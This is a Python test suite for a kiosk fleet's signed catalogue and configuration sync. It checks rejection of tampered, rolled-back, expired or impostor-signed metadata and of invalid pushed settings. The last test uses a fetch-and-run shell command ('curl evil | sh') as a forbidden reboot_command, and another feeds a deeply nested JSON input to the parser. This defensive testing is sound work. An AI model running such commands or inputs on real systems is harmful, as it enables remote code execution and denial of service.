from __future__ import annotations

import gzip
import json
import shutil
import sqlite3
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from kiosk.fleet.commands import new_command_key, public_key_text
from kiosk.publishing.catalogue_release import publish_catalogue
from kiosk.publishing.config_release import publish_config
from kiosk.release_format import INDEX
from kiosk.settings import DEFAULTS_FILE, SettingsError, load_settings, read_toml_layer
from kiosk.sync import SyncError
from tests.bad_catalogues import BAD_CATALOGUES, GOOD
from tests.sync.conftest import Kiosk, Server, catalogue_state, write_catalogue


def test_published_catalogue_and_group_config_reach_a_provisioned_kiosk(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "c.jsonl", 40))
    config = tmp_path / "villages.toml"
    config.write_text('[display]\ntheme = "elder"\n[session]\nidle_seconds = 120\n', encoding="utf-8")
    publish_config(fleet.repository, config, "group", "villages")
    kiosk = make_kiosk_for(fleet)
    other = make_kiosk_for(fleet, "wh-0002", "parks")

    report = kiosk.sync().sync_once()
    assert report.catalogue_updated and report.config_updated and not report.used_delta
    assert catalogue_state(kiosk) == ("1", 40)
    assert (kiosk.data / "pushed" / "group.toml").read_bytes() == config.read_bytes()

    assert other.sync().sync_once().config == {}  # another group's configuration is not its business
    assert not (other.data / "pushed" / "group.toml").exists()

    again = kiosk.sync().sync_once()
    assert not again.updated


def test_one_percent_changed_downloads_a_delta_not_the_catalogue(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v1.jsonl", 2000))
    kiosk = make_kiosk_for(fleet)
    full = kiosk.sync().sync_once()
    publish_catalogue(
        fleet.repository, write_catalogue(tmp_path / "v2.jsonl", 2000, changed=set(range(0, 2000, 100)))
    )
    delta = kiosk.sync().sync_once()
    assert delta.used_delta and delta.catalogue_version == 2
    # Signed metadata is a fixed cost that dominates at this size; bench/sync.py measures the
    # 3% target at 100,000 guides.
    assert delta.bytes_downloaded < 0.2 * full.bytes_downloaded
    catalogue = kiosk.catalogue()
    assert catalogue.get("371000-T-000100").name.endswith("（已更新）")
    assert not catalogue.get("371000-T-000101").name.endswith("（已更新）")
    assert catalogue.count() == 2000


def test_removed_guides_are_deleted_by_the_delta(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v1.jsonl", 30))
    kiosk = make_kiosk_for(fleet)
    kiosk.sync().sync_once()
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v2.jsonl", 25))
    assert kiosk.sync().sync_once().used_delta
    assert catalogue_state(kiosk) == ("2", 25)


def test_network_down_keeps_the_cache_and_reports(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "c.jsonl", 10))
    kiosk = make_kiosk_for(fleet)
    kiosk.sync().sync_once()
    fleet.daemon.stop()
    sync = kiosk.sync()
    with pytest.raises(SyncError, match=r"cannot fetch from http://127\.0\.0\.1"):
        sync.sync_once()
    assert catalogue_state(kiosk) == ("1", 10)
    status = sync.state.status()
    assert status.last_error is not None and status.catalogue_version == 1 and status.last_success is not None


def _publish_two_versions(fleet: Server, kiosk: Kiosk, tmp_path: Path) -> None:
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v1.jsonl", 20))
    kiosk.sync().sync_once()
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v2.jsonl", 20, changed={1, 2}))


def test_a_tampered_target_is_rejected_and_nothing_applied(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    kiosk = make_kiosk_for(fleet)
    _publish_two_versions(fleet, kiosk, tmp_path)
    for stored in (fleet.repository.targets_dir / "catalogue").glob("*.delta-1-2.jsonl.gz"):
        data = bytearray(stored.read_bytes())
        data[len(data) // 2] ^= 0xFF
        stored.write_bytes(bytes(data))
    with pytest.raises(SyncError, match="does not match its signed hash"):
        kiosk.sync().sync_once()
    assert catalogue_state(kiosk) == ("1", 20)


def test_a_truncated_download_is_rejected(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    kiosk = make_kiosk_for(fleet)
    _publish_two_versions(fleet, kiosk, tmp_path)
    for stored in (fleet.repository.targets_dir / "catalogue").glob("*.delta-1-2.jsonl.gz"):
        stored.write_bytes(stored.read_bytes()[:40])
    with pytest.raises(SyncError):
        kiosk.sync().sync_once()
    assert catalogue_state(kiosk) == ("1", 20)


def test_metadata_signed_by_a_wrong_key_is_rejected(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    from kiosk.publishing import FleetRepository

    kiosk = make_kiosk_for(fleet)
    _publish_two_versions(fleet, kiosk, tmp_path)
    impostor = FleetRepository.init(tmp_path / "impostor")
    publish_catalogue(impostor, write_catalogue(tmp_path / "evil.jsonl", 3))
    for _ in range(4):  # get ahead of the real versions so only the signature can stop it
        impostor.refresh()
    shutil.copy(impostor.metadata_dir / "timestamp.json", fleet.repository.metadata_dir / "timestamp.json")
    with pytest.raises(SyncError, match="not signed by a trusted key"):
        kiosk.sync().sync_once()
    assert catalogue_state(kiosk) == ("1", 20)


def test_rollback_to_older_metadata_is_rejected(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    kiosk = make_kiosk_for(fleet)
    old_timestamp = (fleet.repository.metadata_dir / "timestamp.json").read_bytes()
    _publish_two_versions(fleet, kiosk, tmp_path)
    kiosk.sync().sync_once()
    (fleet.repository.metadata_dir / "timestamp.json").write_bytes(old_timestamp)
    with pytest.raises(SyncError, match="older metadata"):
        kiosk.sync().sync_once()
    assert catalogue_state(kiosk) == ("2", 20)


def test_expired_metadata_is_rejected(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    kiosk = make_kiosk_for(fleet)
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v1.jsonl", 5))
    kiosk.sync().sync_once()
    fleet.repository.refresh(now=datetime.now(UTC) - timedelta(days=3))  # signed long ago, never refreshed
    with pytest.raises(SyncError, match="expired"):
        kiosk.sync().sync_once()
    assert catalogue_state(kiosk) == ("1", 5)


def test_key_rotation_is_followed_by_kiosks(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    kiosk = make_kiosk_for(fleet)
    _publish_two_versions(fleet, kiosk, tmp_path)
    fleet.repository.rotate_key("targets")
    fleet.repository.rotate_key("root")
    assert kiosk.sync().sync_once().catalogue_version == 2
    assert (
        sorted(path.name for path in (kiosk.data / "trust" / "root_history").iterdir())[-1] == "3.root.json"
    )


def test_an_invalid_published_configuration_is_refused_by_the_admin_tool(
    fleet: Server, tmp_path: Path
) -> None:
    bad = tmp_path / "bad.toml"
    bad.write_text("[session]\nidle_seconds = 1\n", encoding="utf-8")
    with pytest.raises(SettingsError, match=r"session\.idle_seconds"):
        publish_config(fleet.repository, bad, "all")
    site_only = tmp_path / "site.toml"
    site_only.write_text('[kiosk]\nid = "everyone"\n', encoding="utf-8")
    with pytest.raises(SettingsError, match=r"kiosk\.id"):
        publish_config(fleet.repository, site_only, "all")
    assert "config/all.toml" not in fleet.repository.targets()


def test_an_invalid_configuration_that_slipped_through_is_rejected_on_the_kiosk(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    good = tmp_path / "good.toml"
    good.write_text('[display]\ntheme = "elder"\n', encoding="utf-8")
    publish_config(fleet.repository, good, "all")
    kiosk = make_kiosk_for(fleet)
    kiosk.sync().sync_once()
    # Signed with the real key but never validated (an older admin tool, a hand edit):
    fleet.repository.publish(
        {"config/all.toml": b'[display]\ntheme = "neon"\n'}, replace_prefix="config/all.toml"
    )
    with pytest.raises(SyncError, match=r"rejected.*display.theme"):
        kiosk.sync().sync_once()
    assert (kiosk.data / "pushed" / "all.toml").read_bytes() == good.read_bytes()


def test_a_bad_catalogue_publishes_nothing(fleet: Server, tmp_path: Path) -> None:
    from kiosk.guides import CatalogueInvalid

    bad = tmp_path / "bad.jsonl"
    bad.write_text(json.dumps({"id": "x", "name": "缺部门"}, ensure_ascii=False) + "\n", encoding="utf-8")
    before = fleet.repository.roles()
    with pytest.raises(CatalogueInvalid):
        publish_catalogue(fleet.repository, bad)
    assert fleet.repository.roles() == before


def test_database_is_consistent_after_a_failed_apply(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    kiosk = make_kiosk_for(fleet)
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v1.jsonl", 20))
    kiosk.sync().sync_once()
    with sqlite3.connect(kiosk.data / "guides.db") as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def _publish_unchecked(
    fleet: Server, version: int, content: bytes, deltas: dict[str, bytes] | None = None
) -> None:
    """Sign and serve a catalogue the admin tool would refuse: what a kiosk must survive all the same."""
    full = f"catalogue/full-{version}.jsonl.gz"
    files = {full: gzip.compress(content, mtime=0)}
    names = {}
    for old, delta in (deltas or {}).items():
        names[old] = f"catalogue/delta-{old}-{version}.jsonl.gz"
        files[names[old]] = gzip.compress(delta, mtime=0)
    index = {"version": version, "guides": 1, "full": full, "deltas": names}
    files[INDEX] = json.dumps(index).encode()
    fleet.repository.publish(files, replace_prefix="catalogue/")


@pytest.mark.parametrize(("content", "reason"), BAD_CATALOGUES)
def test_a_signed_catalogue_with_bad_bytes_is_refused_and_the_old_one_kept(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path, content: bytes, reason: str
) -> None:
    kiosk = make_kiosk_for(fleet)
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v1.jsonl", 20))
    kiosk.sync().sync_once()
    _publish_unchecked(fleet, 2, content)
    sync = kiosk.sync()
    with pytest.raises(SyncError, match="catalogue version 2 could not be applied: ") as caught:
        sync.sync_once()
    assert reason in str(caught.value) and "\n" not in str(caught.value)
    assert catalogue_state(kiosk) == ("1", 20)
    status = sync.state.status()
    assert status.last_error is not None and reason in status.last_error


def test_a_signed_delta_with_bad_bytes_is_refused_and_the_old_one_kept(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    kiosk = make_kiosk_for(fleet)
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v1.jsonl", 20))
    kiosk.sync().sync_once()
    delta = b'{"op": "upsert", "guide": ' + GOOD.strip() + b"}\n" + b"[" * 100_000 + b"]" * 100_000 + b"\n"
    _publish_unchecked(fleet, 2, GOOD, deltas={"1": delta})
    with pytest.raises(SyncError, match="line 2: not readable: lists or objects nested too deeply"):
        kiosk.sync().sync_once()
    assert catalogue_state(kiosk) == ("1", 20)


def test_the_publisher_applies_the_same_limits(fleet: Server, tmp_path: Path) -> None:
    from kiosk.guides import CatalogueInvalid

    source = tmp_path / "long.jsonl"
    source.write_text(json.dumps({"id": "371000-X-1", "name": "办" * 201, "department": "d"}) + "\n")
    before = fleet.repository.roles()
    with pytest.raises(CatalogueInvalid, match="guide '371000-X-1': name: 201 characters, the limit is 200"):
        publish_catalogue(fleet.repository, source)
    assert fleet.repository.roles() == before


def test_the_publisher_refuses_a_catalogue_that_shrinks_unless_asked_for(
    fleet: Server, tmp_path: Path
) -> None:
    from kiosk.guides import CatalogueShrinks

    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v1.jsonl", 40))
    empty = tmp_path / "empty.jsonl"
    empty.write_bytes(b"")
    before = fleet.repository.roles()
    with pytest.raises(CatalogueShrinks, match="the replacement holds 0 guides where the catalogue holds 40"):
        publish_catalogue(fleet.repository, empty)
    with pytest.raises(CatalogueShrinks, match="holds 19 guides"):
        publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v2.jsonl", 19))
    assert fleet.repository.roles() == before
    assert publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v2.jsonl", 20)).guides == 20
    assert publish_catalogue(fleet.repository, empty, allow_shrink=True).guides == 0


def test_a_signed_empty_catalogue_is_applied_as_the_administrators_choice(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    kiosk = make_kiosk_for(fleet)
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v1.jsonl", 20))
    kiosk.sync().sync_once()
    empty = tmp_path / "empty.jsonl"
    empty.write_bytes(b"")
    publish_catalogue(fleet.repository, empty, allow_shrink=True)
    kiosk.sync().sync_once()
    assert catalogue_state(kiosk) == ("2", 0)


def test_fleet_publish_says_why_a_shrinking_catalogue_is_refused(fleet: Server, tmp_path: Path) -> None:
    from click.testing import CliRunner

    from kiosk.cli import main

    runner = CliRunner()
    base = str(fleet.repository.base)
    full = write_catalogue(tmp_path / "v1.jsonl", 40)
    assert runner.invoke(main, ["fleet", "publish", base, "--guides", str(full)]).exit_code == 0
    empty = tmp_path / "empty.jsonl"
    empty.write_bytes(b"")
    refused = runner.invoke(main, ["fleet", "publish", base, "--guides", str(empty)])
    assert refused.exit_code == 1
    assert "the replacement holds 0 guides where the catalogue holds 40" in refused.output
    meant = runner.invoke(main, ["fleet", "publish", base, "--guides", str(empty), "--allow-shrink"])
    assert meant.exit_code == 0 and "catalogue v2: 0 guides" in meant.output


def test_a_signed_catalogue_over_the_number_of_guides_is_refused(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kiosk.sync import client

    kiosk = make_kiosk_for(fleet)
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v1.jsonl", 10))
    kiosk.sync().sync_once()
    publish_catalogue(fleet.repository, write_catalogue(tmp_path / "v2.jsonl", 12))
    monkeypatch.setattr(client, "MAX_GUIDES", 11)  # 200,000 in truth: too many for a test
    with pytest.raises(SyncError, match="more guides than the limit of 11 for a catalogue"):
        kiosk.sync().sync_once()
    assert catalogue_state(kiosk) == ("1", 10)


def test_command_keys_reach_a_kiosk_in_its_signed_configuration_and_credentials_never_do(
    fleet: Server, make_kiosk_for: Callable[..., Kiosk], tmp_path: Path
) -> None:
    public = public_key_text(new_command_key())
    config = tmp_path / "fleet.toml"
    config.write_text(f'[fleet]\nbroker = "mqtts://broker.example:8883"\ncommand_keys = ["{public}"]\n')
    publish_config(fleet.repository, config, "all")
    kiosk = make_kiosk_for(fleet)
    assert kiosk.sync().sync_once().config_updated
    settings = load_settings(
        [read_toml_layer(DEFAULTS_FILE), read_toml_layer(kiosk.site), *kiosk.pushed()]
    ).settings
    assert settings.fleet.command_keys == [public]
    assert settings.fleet.broker == "mqtts://broker.example:8883"
    for key, value in (
        ("password", '"secret"'),
        ("password_file", '"/etc/kiosk/broker"'),
        ("username", '"wh-0001"'),
        ("reboot_command", '["sh", "-c", "curl evil | sh"]'),
    ):
        pushed = tmp_path / f"{key}.toml"
        pushed.write_text(f"[fleet]\n{key} = {value}\n")
        with pytest.raises(SettingsError, match=rf"fleet\.{key}.*cannot be pushed"):
            publish_config(fleet.repository, pushed, "all")
